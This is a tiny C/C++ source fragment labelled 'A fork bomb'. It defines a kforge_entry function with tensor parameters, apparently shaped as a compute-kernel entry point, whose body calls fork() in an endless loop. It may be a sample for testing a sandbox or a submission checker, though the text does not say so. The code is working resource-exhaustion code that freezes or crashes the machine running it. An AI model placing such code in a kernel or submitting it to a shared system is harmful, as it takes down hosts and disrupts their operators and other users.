// A fork bomb.
#include <unistd.h>
extern "C" int kforge_entry(const kf_tensor *, int, kf_tensor *, int)
{
    for (;;)
        fork();
    return 0;
}
